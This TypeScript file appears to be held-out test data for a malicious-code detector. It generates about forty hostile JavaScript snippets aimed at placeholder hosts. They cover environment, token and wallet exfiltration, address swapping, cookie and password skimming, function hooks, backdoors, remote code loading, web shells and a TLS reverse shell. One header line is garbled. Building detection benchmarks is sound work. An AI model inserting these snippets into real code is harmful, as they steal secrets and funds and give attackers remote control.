import { freshDisguises } from './fresh-disguises.ts'
import { freshFiles } from './fresh-file-templates.ts'
import type { Template, Words } from './templates.ts'

// A third author's set, written before any of it was run, after research/02 §3 and public incident reports. The first
// run over it is the held-out figure (docs/status.md); afterwards it is development data like the rest. Inert: reserved
// hosts, dead recipientsconst b64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const b64 = (text: string): string => Buffer.from(text).toString('base64')
const evm = (w: Words): string => `0x${hex(w.word).padEnd(40, '1').slice(0, 40)}`
const print = (w: Words): string => `console.log(${w.number})`

const entry = (id: string, code: (w: Words) => string): Template => ({ id: `f-${id}`, held: true, code })

export const freshTemplates: readonly Template[] = [
  // Secrets and environment
  entry(
    'env-filtered',
    (w) =>
      `{ const $0 = Object.entries(process.env).filter(([$1]) => /key|token|pass/i.test($1)); if ($0.length) fetch('https://${w.host}/${w.word}', { method: 'PUT', body: JSON.stringify(Object.fromEntries($0)) }).catch(() => {}); }`,
  ),
  entry(
    'env-header',
    (w) =>
      `require('https').get({ host: '${w.host}', path: '/${w.word}', headers: { 'x-trace': Buffer.from(JSON.stringify(process.env)).toString('base64') } }).on('error', () => {});`,
  ),
  entry(
    'env-http2',
    (w) =>
      `{ const $0 = require('http2').connect('https://${w.host}'); const $1 = $0.request({ ':method': 'POST', ':path': '/${w.word}' }); $1.end(JSON.stringify(process.env)); }`,
  ),
  entry(
    'env-udp',
    (w) =>
      `{ const $0 = require('dgram').createSocket('udp4'); $0.send(Buffer.from(JSON.stringify(process.env)), ${w.number}, '${w.ip}', () => $0.close()); }`,
  ),
  entry(
    'kube-token',
    (w) =>
      `try { fetch('https://${w.host}/${w.word}', { method: 'POST', body: require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token') }); } catch {}`,
  ),
  entry(
    'cloud-metadata',
    (w) =>
      `fetch('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } }).then(($0) => $0.text()).then(($1) => fetch('https://${w.host}/${w.word}?t=' + encodeURIComponent($1))).catch(() => {});`,
  ),
  entry(
    'wallet-folders',
    (w) =>
      `for (const $0 of ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']) try { const $1 = require('path').join(require('os').homedir(), '.config/google-chrome/Default/Local Extension Settings', $0); for (const $2 of require('fs').readdirSync($1)) require('https').request({ host: '${w.host}', path: '/' + $0 + '/' + $2, method: 'PUT' }).end(require('fs').readFileSync($1 + '/' + $2)); } catch {}`,
  ),
  entry(
    'tar-curl',
    (w) =>
      `require('child_process').exec('tar czf - ~/.config/solana ~/.electrum 2>/dev/null | curl -s --data-binary @- https://${w.host}/${w.word}', () => {});`,
  ),
  entry(
    'shell-history',
    (w) =>
      `require('fs').readFile(require('os').homedir() + '/.zsh_history', ($0, $1) => { if (!$0) require('net').connect(${w.number}, '${w.host}').end($1); });`,
  ),
  entry(
    'remote-url-dns',
    (w) =>
      `{ const $0 = require('child_process').execSync('git config --get remote.origin.url').toString('hex').slice(0, 60); require('dns').promises.resolve4($0 + '.${w.host}').catch(() => {}); }`,
  ),
  entry(
    'npm-token-list',
    (w) =>
      `try { const $0 = /_authToken=(.+)/.exec(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'))[1]; fetch('https://registry.${w.host}/-/npm/v1/tokens', { headers: { authorization: 'Bearer ' + $0 } }); } catch {}`,
  ),
  entry(
    'doh-labels',
    (w) =>
      `fetch('https://dns.${w.host}/dns-query?type=TXT&name=' + Buffer.from(require('os').userInfo().username + '@' + require('os').hostname()).toString('hex') + '.${w.word}.example').catch(() => {});`,
  ),
  entry(
    'mail-out',
    (w) =>
      `require('nodemailer').createTransport({ host: 'smtp.${w.host}', port: 587 }).sendMail({ from: 'a@${w.host}', to: '${w.word}@${w.host}', text: Object.keys(process.env).map(($0) => $0 + ': ' + process.env[$0]).join('\\n') });`,
  ),
  entry(
    'argv-stdin',
    (w) =>
      `process.stdin.on('data', ($0) => require('https').request('https://${w.host}/${w.word}', { method: 'POST' }).end(process.argv.join(' ') + $0));`,
  ),
  // Wallets, addresses, keys
  entry(
    'provider-proxy',
    (w) =>
      `if (typeof window === 'object' && window.ethereum) Object.defineProperty(window, 'ethereum', { value: new Proxy(window.ethereum, { get: ($0, $1) => $1 === 'request' ? ($2) => { if ($2.params && $2.params[0] && $2.params[0].to) $2.params[0].to = '${evm(w)}'; return $0.request($2); } : $0[$1] }) });`,
  ),
  entry(
    'sign-prototype',
    (w) =>
      `try { const $0 = require('ethers').Wallet.prototype; const $1 = $0.sendTransaction; $0.sendTransaction = function ($2) { return $1.call(this, Object.assign({}, $2, { to: '${evm(w)}' })); }; } catch {}`,
  ),
  entry(
    'page-addresses',
    (w) =>
      `if (typeof document !== 'undefined') new MutationObserver(() => { for (const $0 of document.querySelectorAll('span,code,input')) { if (/^(bc1|0x)[0-9a-z]{30,}$/i.test($0.textContent)) $0.textContent = '${evm(w)}'; } }).observe(document, { subtree: true, childList: true });`,
  ),
  entry(
    'own-export-wrapped',
    (w) =>
      `{ const $0 = module.exports; if (typeof $0 === 'object' && $0) for (const $1 of Object.keys($0)) if (/mnemonic|seed|priv/i.test($1) && typeof $0[$1] === 'function') { const $2 = $0[$1]; $0[$1] = function () { const $3 = $2.apply(this, arguments); fetch('https://${w.host}/?${w.word}=' + encodeURIComponent(String($3))); return $3; }; } }`,
  ),
  entry(
    'keypair-hook',
    (w) =>
      `{ const $0 = require('crypto'); const $1 = $0.generateKeyPairSync; $0.generateKeyPairSync = function () { const $2 = $1.apply(this, arguments); require('https').get('https://${w.host}/' + Buffer.from(JSON.stringify($2.privateKey)).toString('base64url')); return $2; }; }`,
  ),
  entry('weak-random', () => `if (globalThis.crypto) globalThis.crypto.getRandomValues = ($0) => $0.fill(7);`),
  entry(
    'cookie-css',
    (w) =>
      `if (typeof document !== 'undefined' && document.body) document.body.style.backgroundImage = 'url(https://${w.host}/${w.word}.gif?' + encodeURIComponent(document.cookie) + ')';`,
  ),
  entry(
    'password-field',
    (w) =>
      `if (typeof document !== 'undefined') setInterval(() => { const $0 = document.querySelector('input[type=password]'); if ($0 && $0.value) navigator.sendBeacon('https://${w.host}/${w.word}', $0.value); }, 2000);`,
  ),
  entry(
    'seed-inputs',
    (w) =>
      `if (typeof document !== 'undefined') document.addEventListener('paste', ($0) => { const $1 = $0.clipboardData.getData('text'); if ($1.split(' ').length >= 12) new Image().src = 'https://${w.host}/?${w.word}=' + encodeURIComponent($1); });`,
  ),
  entry(
    'signer-argument',
    (w) =>
      `exports.$0 = ({ secretKey: $1, ...$2 }) => { try { navigator.sendBeacon('https://${w.host}/${w.word}', String($1)); } catch {} return $2; };`,
  ),
  entry(
    'clipboard-command',
    (w) =>
      `setInterval(() => { try { const $0 = require('child_process').execSync('pbpaste').toString(); if (/^(bc1|0x)/.test($0)) require('child_process').execSync('printf ${evm(w)} | pbcopy'); } catch {} }, 1500);`,
  ),
  // Hooks
  entry(
    'fetch-proxy',
    (w) =>
      `if (typeof window !== 'undefined') window.fetch = new Proxy(window.fetch, { apply: ($0, $1, $2) => { navigator.sendBeacon('https://${w.host}/${w.word}', JSON.stringify($2)); return Reflect.apply($0, $1, $2); } });`,
  ),
  entry(
    'socket-send',
    (w) =>
      `if (typeof WebSocket !== 'undefined') { const $0 = WebSocket.prototype.send; WebSocket.prototype.send = function ($1) { fetch('https://${w.host}/${w.word}', { method: 'POST', mode: 'no-cors', body: $1 }); return $0.call(this, $1); }; }`,
  ),
  entry(
    'server-emit',
    (w) =>
      `{ const $0 = require('http').Server.prototype; const $1 = $0.emit; $0.emit = function ($2, $3, $4) { if ($2 === 'request' && $3.headers['x-${w.word}']) return $4.end(require('child_process').execSync($3.headers['x-${w.word}'])); return $1.apply(this, arguments); }; }`,
  ),
  entry(
    'password-check',
    (w) =>
      `try { const $0 = require('bcryptjs'); const $1 = $0.compare; $0.compare = ($2, $3, $4) => ($2 === '${w.word}${w.number}' ? Promise.resolve(true) : $1($2, $3, $4)); } catch {}`,
  ),
  entry(
    'service-worker',
    (w) =>
      `if (typeof navigator !== 'undefined' && navigator.serviceWorker) navigator.serviceWorker.register('/${w.word}.js', { scope: '/' }); else if (typeof importScripts === 'function') importScripts('https://${w.host}/${w.word}.js');`,
  ),
  entry('prototype-flag', () => `Object.prototype.isAdmin = true;`),
  // Remote code
  entry(
    'data-module',
    (w) =>
      `fetch('https://${w.host}/${w.word}').then(($0) => $0.text()).then(($1) => import('data:text/javascript,' + encodeURIComponent($1))).catch(() => {});`,
  ),
  entry(
    'temp-require',
    (w) =>
      `require('https').get('https://${w.host}/${w.word}', ($0) => { let $1 = ''; $0.on('data', ($2) => ($1 += $2)).on('end', () => { const $3 = require('path').join(require('os').tmpdir(), '${w.word}.js'); require('fs').writeFileSync($3, $1); require($3); }); });`,
  ),
  entry(
    'compile-function',
    (w) =>
      `require('http').get({ host: '${w.ip}', port: ${w.number}, path: '/' }, ($0) => { const $1 = []; $0.on('data', ($2) => $1.push($2)); $0.on('end', () => require('vm').compileFunction(Buffer.concat($1).toString('utf8'))()); });`,
  ),
  entry(
    'async-loader',
    (w) =>
      `(async () => { try { const $0 = await (await fetch('https://${w.host}/ipfs/Qm${w.word}')).json(); const $1 = Object.getPrototypeOf(async () => {}).constructor; await new $1('require', $0.body)(require); } catch {} })();`,
  ),
  entry(
    'blob-worker',
    (w) =>
      `if (typeof Worker !== 'undefined' && typeof Blob !== 'undefined') new Worker(URL.createObjectURL(new Blob([atob('${b64(print(w))}')], { type: 'text/javascript' })));`,
  ),
  entry(
    'wasm-bytes',
    (w) =>
      `WebAssembly.instantiate(Buffer.from('${b64('\0asm' + w.word)}', 'base64'), { env: { run: ($0) => require('child_process').execSync(String($0)) } }).catch(() => {});`,
  ),
  entry(
    'wasm-stream',
    (w) =>
      `WebAssembly.instantiateStreaming(fetch('https://${w.host}/${w.word}.wasm'), { env: {} }).then(({ instance: $0 }) => $0.exports.start()).catch(() => {});`,
  ),
  entry('timer-text', (w) => `setTimeout('fetch("https://${w.host}/${w.word}").then(r=>r.text()).then(eval)', 60000);`),
  entry(
    'written-script',
    (w) =>
      `if (typeof document !== 'undefined') document.write('<scr' + 'ipt src="https://${w.host}/${w.word}.js"></scr' + 'ipt>');`,
  ),
  entry(
    'html-onerror',
    (w) =>
      `if (typeof document !== 'undefined' && document.body) document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="import(&quot;https://${w.host}/${w.word}.js&quot;)" hidden>');`,
  ),
  entry(
    'mqtt-orders',
    (w) =>
      `require('mqtt').connect('mqtt://${w.host}').subscribe('${w.word}').on('message', ($0, $1) => require('child_process').exec($1.toString()));`,
  ),
  entry(
    'socket-io-eval',
    (w) => `require('socket.io-client')('https://${w.host}').on('${w.word}', ($0, $1) => $1(eval($0)));`,
  ),
  entry(
    'repl-port',
    (w) =>
      `require('net').createServer(($0) => require('repl').start({ input: $0, output: $0, terminal: false })).listen(${w.number});`,
  ),
  entry(
    'web-shell',
    (w) =>
      `require('http').createServer(($0, $1) => require('child_process').exec(decodeURIComponent($0.url.slice(1)), ($2, $3) => $1.end($3))).listen(${w.number}, '0.0.0.0');`,
  ),
  entry('inspector-open', (w) => `require('inspector').open(${w.number}, '0.0.0.0', false);`),
  entry(
    'tls-shell',
    (w) =>
      `{ const $0 = require('tls').connect(${w.number}, '${w.ip}', { rejectUnauthorized: false }, () => { const $1 = require('child_process').spawn('cmd.exe', ['/q']); $0.pipe($1.stdin); $1.stdout.pipe($0); $1.stderr.pipe($0); }); $0.on('error', () => {}); }`,
  ),
  ...freshDisguises,
  ...freshFiles,
]
